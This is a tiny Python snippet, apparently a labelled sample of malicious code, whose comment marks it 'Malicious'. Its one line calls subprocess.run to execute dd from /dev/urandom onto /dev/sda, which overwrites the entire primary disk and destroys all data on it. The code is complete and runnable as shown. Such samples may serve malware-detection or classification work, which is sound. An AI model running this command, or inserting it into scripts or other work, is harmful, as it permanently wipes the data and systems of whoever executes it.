# Malicious: dd from /dev/urandom onto /dev/sda; overwrites the whole disk.
import subprocess

subprocess.run(["dd", "if=/dev/urandom", "of=/dev/sda", "bs=4M", "status=none"])
